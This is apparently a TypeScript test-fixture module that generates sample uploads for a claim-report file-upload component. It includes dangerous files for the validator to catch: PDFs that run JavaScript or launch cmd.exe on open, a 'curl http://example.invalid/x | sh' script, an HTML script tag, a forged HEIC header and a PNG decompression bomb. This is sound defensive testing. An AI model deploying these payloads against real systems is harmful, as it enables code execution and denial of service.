/** Files the tests of claim-report-files send: real photos and PDFs made here, and the bad ones of issue 22. */
import { readFileSync } from 'node:fs';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';

/** A JPEG photo as a phone writes it: its EXIF with camera, time taken and GPS position (Milan). */
export function phonePhoto(width = 4000, height = 3000) {
  return sharp({ create: { width, height, channels: 3, background: '#3366aa' } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'TestCam', Model: 'X1' },
      IFD2: { DateTimeOriginal: '2026:11:20 10:11:12' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '45/1 27/1 5000/100',
        GPSLongitudeRef: 'E',
        GPSLongitude: '9/1 11/1 2000/100',
      },
    })
    .toBuffer();
}

/** A small PNG with transparency. */
export const smallPng = (width = 40, height = 30) =>
  sharp({ create: { width, height, channels: 4, background: { r: 200, g: 10, b: 10, alpha: 0.5 } } })
    .png()
    .toBuffer();

/** A PDF of `pages` blank pages. */
export async function plainPdf(pages = 1) {
  const document = await PDFDocument.create();
  for (let i = 0; i < pages; i++) document.addPage();
  return Buffer.from(await document.save());
}

/** A PDF that runs JavaScript when opened. */
export async function scriptedPdf() {
  const document = await PDFDocument.create();
  document.addPage();
  document.addJavaScript('hello', 'app.alert("ciao")');
  return Buffer.from(await document.save());
}

/** A PDF that runs `action` (an action dictionary's entries) when it is opened: its /OpenAction. */
async function pdfOpening(action: Record<string, string | PDFString>) {
  const document = await PDFDocument.create();
  document.addPage();
  const dictionary = document.context.obj({ Type: 'Action', ...action });
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(dictionary));
  return Buffer.from(await document.save());
}

/** A PDF whose opening launches a program. */
export const launchingPdf = () => pdfOpening({ S: 'Launch', F: PDFString.of('cmd.exe') });

/** A PDF whose opening runs JavaScript: an /OpenAction of /S /JavaScript, nothing in its names tree. */
export const scriptOnOpenPdf = () =>
  pdfOpening({ S: 'JavaScript', JS: PDFString.of('app.launchURL("https://example.invalid")') });

export const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
export const HTML = Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>\n');

const fixture = (name: string) =>
  readFileSync(new URL(`../modules/claim-report-files/fixtures/${name}`, import.meta.url));

/**
 * A HEIC as an iPhone writes it: 96×64 pixels as the sensor saw them (left third red, the rest blue), the
 * container's `irot` turning them 90° clockwise (shown 64×96, red on top), and its EXIF with camera, time,
 * GPS position (Milan) and orientation 6, which HEIF readers ignore. Made with Debian's heif-enc 1.15 from
 * a JPEG, the rotation added by fixtures/add-rotation.mjs (heif-enc 1.15 writes none).
 */
export const iphonePhoto = () => fixture('photo.heic');

/** A 12 MP HEIC (4032×3024, an iPhone's photo size) of a gradient: a few KB, the whole decoding work. */
export const iphonePhoto12mp = () => fixture('photo-12mp.heic');

/** A copy of `heic` declaring `width`×`height` in its `ispe` property: its stream still holds what it did. */
export function heicDeclaring(heic: Buffer, width: number, height: number) {
  const copy = Buffer.from(heic);
  const at = copy.indexOf('ispe') + 8;
  copy.writeUInt32BE(width, at);
  copy.writeUInt32BE(height, at + 4);
  return copy;
}

/**
 * A decompression bomb that passes the size check: a PNG of exactly MAX_INPUT_PIXELS (10,000 × 6,000) of
 * one colour, tens of KB, that every check decodes whole (about 45-90 MB of memory each).
 */
export const sixtyMegapixelPng = () =>
  sharp({ create: { width: 10_000, height: 6_000, channels: 3, background: '#3366aa' } })
    .png({ compressionLevel: 9, palette: true })
    .toBuffer();
